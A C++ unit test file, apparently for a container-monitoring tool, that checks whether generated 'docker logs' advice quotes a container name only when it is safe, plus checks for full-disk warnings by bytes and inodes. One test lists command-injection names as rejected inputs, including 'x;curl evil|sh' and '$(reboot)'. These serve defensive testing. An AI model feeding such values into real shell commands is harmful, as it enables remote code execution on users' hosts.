#include <doctest/doctest.h>

#include "model/host_advice.hpp"

using namespace dropsweep;

TEST_CASE("A name in a command to paste is nothing but a name; else the id stands there, and nothing for what is gone") {
  const std::string id = "0123456789abcdef" + std::string(48, 'f');
  CHECK(to_read_its_log({.id = id, .name = "shop-web_1.2", .what = ""}) == "`docker logs shop-web_1.2` on the host says why.");
  for (const auto* name : {"", "x;curl evil|sh", "x`reboot`", "$(reboot)", "--follow", "a\nb", "na\u00EFve"})
    CHECK(to_read_its_log({.id = id, .name = name, .what = ""}) == "`docker logs 0123456789ab` on the host says why.");
  CHECK(to_read_its_log({.name = "shop", .what = "is gone"}).empty());
}

TEST_CASE("A disk is full by its bytes or by its inodes") {
  file_system disk{.path = "/", .size = {100}, .used = {40}, .available = {60}, .inodes = 1000, .inodes_used = 899};
  CHECK(on_a_full_disk(disk).empty());
  disk.inodes_used = 900;
  CHECK(on_a_full_disk(disk).starts_with("90% of the disk's inodes are used"));
  CHECK(on_a_full_disk({.path = "/", .size = {100}, .used = {95}, .available = {5}}).contains("95% full (5 B available)"));
}
